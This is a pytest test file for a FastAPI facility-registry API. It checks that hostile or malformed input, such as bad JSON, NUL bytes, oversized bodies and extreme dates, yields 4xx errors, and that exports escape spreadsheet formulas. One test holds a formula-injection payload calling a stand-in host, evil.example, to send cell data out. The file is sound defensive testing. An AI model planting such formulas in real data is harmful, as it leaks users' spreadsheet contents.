"""No request a client can send produces a 500; bad input gets a 4xx that names it."""

import pytest
from fastapi.testclient import TestClient

from tests.concurrency import run_together
from tests.factories import World


@pytest.mark.parametrize(
    "raw",
    [
        b'{"code": "X-1", "name": "\\ud800", "kind": "grave", "township_id": 1, "longitude": 112.2, "latitude": 35.7}',
        b'{"code": "X-1", "name": "a\\u0000b", "kind": "grave", "township_id": 1, "longitude": 112.2, "latitude": 35.7}',
        b'{"code": "X-1", "name": "n", "kind": "grave", "township_id": 1, "longitude": 1e999, "latitude": 35.7}',
        b'{"code": "X-1", "name": "n", "kind": "grave", "township_id": 1, "longitude": NaN, "latitude": 35.7}',
        b'{"code": "X-1", "name": "n", "kind": "grave", "township_id": 1e999, "longitude": 112, "latitude": 35.7}',
        b'{"\\ud800": 1}',
        b"{not json",
        b"[]",
        b'"just a string"',
        b"\xff\xfe",
    ],
)
def test_hostile_json_bodies_get_422(client: TestClient, world: World, raw: bytes) -> None:
    headers = world.headers("county") | {"Content-Type": "application/json"}
    response = client.post("/api/v1/facilities", content=raw, headers=headers)
    assert response.status_code == 422, response.text
    assert response.json()["detail"]


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/facilities?q=%00",
        "/api/v1/facilities/99999999999999999999",
        "/api/v1/facilities/-1",
        "/api/v1/facilities?offset=99999999999999999999",
        "/api/v1/audit?object_id=%00",
        "/api/v1/users/0",
    ],
)
def test_hostile_query_strings_get_4xx(client: TestClient, world: World, path: str) -> None:
    response = client.get(path, headers=world.headers("admin"))
    assert 400 <= response.status_code < 500, response.text


def test_undecodable_percent_escapes_are_searched_as_replacement_characters(
    client: TestClient, world: World
) -> None:
    response = client.get("/api/v1/facilities?q=%ED%A0%80", headers=world.headers("admin"))
    assert response.status_code == 200
    assert response.json()["total"] == 0


def test_a_chunked_body_over_the_limit_is_413(client: TestClient, world: World) -> None:
    def chunks():
        for _ in range(40):
            yield b"x" * 65536

    response = client.patch(
        f"/api/v1/facilities/{world.facility_a.id}",
        content=chunks(),
        headers=world.headers("county") | {"Content-Type": "application/json"},
    )
    assert response.status_code == 413
    assert "1 MiB" in response.json()["detail"]


def test_nul_in_the_login_form_is_refused(client: TestClient, world: World) -> None:
    response = client.post("/api/v1/auth/token", data={"username": "ad\x00min", "password": "x"})
    assert response.status_code == 422


def test_an_oversized_json_body_is_413(client: TestClient, world: World) -> None:
    body = b'{"description": "' + b"x" * (2 * 1024 * 1024) + b'"}'
    response = client.patch(
        f"/api/v1/facilities/{world.facility_a.id}",
        content=body,
        headers=world.headers("county") | {"Content-Type": "application/json"},
    )
    assert response.status_code == 413
    assert "1 MiB" in response.json()["detail"]


def test_unknown_paths_and_methods_say_what_was_asked(client: TestClient) -> None:
    missing = client.get("/api/v1/nothing-here")
    assert missing.status_code == 404
    assert "/api/v1/nothing-here" in missing.json()["detail"]
    wrong = client.put("/healthz")
    assert wrong.status_code == 405
    assert "PUT" in wrong.json()["detail"]


def test_validation_errors_do_not_echo_the_input(client: TestClient, world: World) -> None:
    response = client.post(
        "/api/v1/users",
        json={"username": "x", "password": "secret-but-short", "role": "boss", "full_name": "n"},
        headers=world.headers("admin"),
    )
    assert response.status_code == 422
    assert "secret-but-short" not in response.text


# --- found by review and fuzzing ----------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("post", "/api/v1/inspections", {"inspected_at": "9999-12-31T23:00:00-05:00"}),
        ("post", "/api/v1/inspections", {"inspected_at": "0001-01-01T00:00:00+05:00"}),
        ("get", "/api/v1/audit?from=0001-01-01T00:00:00%2B05:00", None),
        ("get", "/api/v1/audit?to=9999-12-31T23:00:00-02:00", None),
        ("get", "/api/v1/stats?as_of=0001-01-01", None),
        ("get", "/api/v1/overdue?as_of=9999-12-31", None),
        ("get", "/api/v1/exports/overdue.csv?as_of=0001-01-01", None),
    ],
)
def test_dates_at_the_ends_of_the_calendar_are_422(
    client: TestClient, world: World, method: str, path: str, body: dict | None
) -> None:
    if body is not None:
        from tests.factories import report_body

        body = report_body(world.facility_a, **body)
    response = client.request(method, path, json=body, headers=world.headers("admin"))
    assert response.status_code == 422, response.text


@pytest.mark.parametrize("text", ["bad\x01name", "a\x1bb", "del\x7f"])
def test_control_characters_are_refused(client: TestClient, world: World, text: str) -> None:
    response = client.patch(
        f"/api/v1/facilities/{world.facility_a.id}",
        json={"custodian_name": text},
        headers=world.headers("township"),
    )
    assert response.status_code == 422
    assert "control characters" in response.json()["detail"][0]["msg"]
    fine = client.patch(
        f"/api/v1/facilities/{world.facility_a.id}",
        json={"description": "第一行\n第二行\t缩进"},
        headers=world.headers("township"),
    )
    assert fine.status_code == 200


def test_exports_survive_control_characters_stored_before_they_were_refused(
    client: TestClient, world: World, db
) -> None:
    from app.models import Facility

    with db.begin() as session:
        facility = session.get(Facility, world.facility_a.id)
        facility.custodian_name = "旧\x01数据"
        facility.next_due_on = facility.registered_on
    response = client.get(
        "/api/v1/exports/overdue.xlsx",
        params={"as_of": "2100-01-01"},
        headers=world.headers("county"),
    )
    assert response.status_code == 200


def test_typed_formulas_are_exported_as_text(client: TestClient, world: World, db) -> None:
    import csv
    import io

    from openpyxl import load_workbook

    from app.models import Facility

    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    client.patch(
        f"/api/v1/facilities/{world.facility_a.id}",
        json={"village": formula, "custodian_name": "+86 138"},
        headers=world.headers("township"),
    )
    with db.begin() as session:
        session.get(Facility, world.facility_a.id).next_due_on = session.get(
            Facility, world.facility_a.id
        ).registered_on
    params = {"as_of": "2100-01-01", "township_id": world.township_a.id}
    book = client.get(
        "/api/v1/exports/overdue.xlsx", params=params, headers=world.headers("county")
    )
    cell = load_workbook(io.BytesIO(book.content)).active["D2"]
    assert (cell.value, cell.data_type) == (formula, "s")
    text = client.get("/api/v1/exports/overdue.csv", params=params, headers=world.headers("county"))
    row = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"))))[1]
    assert row[3] == "'" + formula
    assert row[9] == "'+86 138"  # a spreadsheet would compute it (a space is an operator there)


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/api/v1/users/{county}", {"full_name": None}, "full_name"),
        ("/api/v1/townships/{township}", {"name": None}, "name"),
        ("/api/v1/townships/{township}", {"code": None}, "code"),
    ],
)
def test_nulls_for_required_fields_are_422(
    client: TestClient, world: World, path: str, body: dict, field: str
) -> None:
    url = path.format(county=world.county.id, township=world.township_a.id)
    response = client.patch(url, json=body, headers=world.headers("admin"))
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"] == ["body", field]


def test_concurrent_registrations_of_one_code_give_one_201_and_409s(app, world: World) -> None:
    body = {
        "code": "RACE-1", "name": "并发", "kind": "grave", "township_id": world.township_a.id,
        "longitude": 112.2, "latitude": 35.7,
    }  # fmt: skip
    headers = world.headers("county")
    results = run_together(
        app, [lambda client: client.post("/api/v1/facilities", json=body, headers=headers)] * 6
    )
    assert sorted(r.status_code for r in results) == [201] + [409] * 5
